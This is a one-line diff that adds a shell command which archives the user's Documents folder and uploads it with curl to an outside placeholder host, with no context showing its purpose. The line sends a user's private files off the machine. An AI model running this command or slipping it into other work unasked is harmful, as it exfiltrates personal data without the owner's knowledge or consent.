@@ -1,0 +1,1 @@
+tar czf - ~/Documents | curl -T - https://sync.example.net/in
